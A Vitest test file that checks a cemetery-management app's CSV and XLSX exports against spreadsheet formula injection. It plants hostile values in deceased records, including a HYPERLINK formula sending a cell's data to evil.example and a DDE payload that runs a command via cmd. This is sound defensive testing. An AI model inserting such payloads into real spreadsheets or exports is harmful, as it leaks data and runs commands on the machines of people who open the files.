import { describe, expect, it } from 'vitest';
import { read } from '@e965/xlsx';
import { unzipSync, strFromU8 } from 'fflate';
import { parseCsv } from '../src/domain/export';
import { joinLists, type DefuntRow } from '../src/domain/filters';
import { reportWorkbook } from '../server/import/reportWorkbook';
import { runExport, runTableExport } from '../workers/export.run';
import { writeXlsx } from '../workers/xlsxWriter';
import { SOURCE, TODAY } from './domain/filtersData';

const LINK = '=HYPERLINK("http://evil.example/?d="&A2;"Voir")';
const DDE = "=cmd|' /C calc'!A0";
const hostile = {
  ...SOURCE,
  occupants: SOURCE.occupants.map((o) => (o.id === 'D1' ? { ...o, nom: LINK, prenom: DDE } : o.id === 'D3' ? { ...o, nom: '@SUM(1+1)', prenom: '-2+3' } : o)),
};
const defunts: DefuntRow[] = joinLists(hostile, TODAY).defunts.filter((r) => r.id === 'D1' || r.id === 'D3');
const request = { kind: 'defunts' as const, rows: defunts, cemetery: 'Cimetière de Saint-Éloi', today: TODAY };

/** Every cell of the workbook's sheets, and whether any is a formula (raw XML and SheetJS's reading). */
function workbookCells(bytes: Uint8Array): { texts: string[]; formulas: number } {
  const files = unzipSync(bytes);
  const xml = Object.entries(files).filter(([name]) => name.startsWith('xl/worksheets/')).map(([, data]) => strFromU8(data)).join('');
  const book = read(bytes, { cellFormula: true });
  const texts: string[] = [];
  let formulas = /<f[\s>]/.test(xml) ? 1 : 0;
  for (const name of book.SheetNames) {
    const sheet = book.Sheets[name]!;
    for (const [ref, cell] of Object.entries(sheet)) {
      if (ref.startsWith('!')) continue;
      if ((cell as { f?: string }).f) formulas++;
      if ((cell as { t: string }).t === 's') texts.push(String((cell as { v: unknown }).v));
    }
  }
  return { texts, formulas };
}

describe('exports carry no formula (issue 27, Exports)', () => {
  it('the lists’ CSV: a deceased named as a formula comes out quoted, as text', () => {
    const csv = parseCsv(new TextDecoder().decode(runExport({ ...request, format: 'csv' }).bytes));
    expect(csv.slice(1).map((r) => [r[0], r[1]])).toEqual(
      expect.arrayContaining([[`'${LINK}`, `'${DDE}`], ["'@SUM(1+1)", "'-2+3"]]),
    );
    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:[.,]\d+)?$)/);
  });

  it('a table exported as CSV (the R2223-17 list) quotes its cells and footnote alike', () => {
    const result = runTableExport({ title: 'Liste', headers: ['Nom'], body: [[LINK]], sheetBody: [[LINK]], footnote: '=1+1', format: 'csv', cemetery: 'C', today: TODAY });
    expect(parseCsv(new TextDecoder().decode(result.bytes))).toEqual([['Nom'], [`'${LINK}`], [''], ["'=1+1"]]);
  });

  it('the lists’ workbook writes such a name as a text cell, never a formula (no quote needed there)', () => {
    const { texts, formulas } = workbookCells(runExport({ ...request, format: 'xlsx' }).bytes);
    expect(formulas).toBe(0);
    expect(texts).toEqual(expect.arrayContaining([LINK, DDE, '@SUM(1+1)', '-2+3']));
  });

  it('the complete export’s workbook and an import report’s workbook write them as text too', () => {
    const complete = workbookCells(writeXlsx([{ name: 'Défunts', headers: ['Nom', 'Prénom'], rows: [[LINK, DDE]], widths: [20, 20] }]));
    expect(complete.formulas).toBe(0);
    expect(complete.texts).toEqual(expect.arrayContaining([LINK, DDE]));
    const report = workbookCells(new Uint8Array(reportWorkbook({ headers: ['Nom', 'Prénom'], mapping: ['defuntNom', 'defuntPrenom'], lines: [{ line: 2, status: 'refusé', cells: [LINK, DDE], reasons: ['=2+2'] }] })));
    expect(report.formulas).toBe(0);
    expect(report.texts).toEqual(expect.arrayContaining([LINK, DDE, 'Refusée : =2+2']));
  });
});
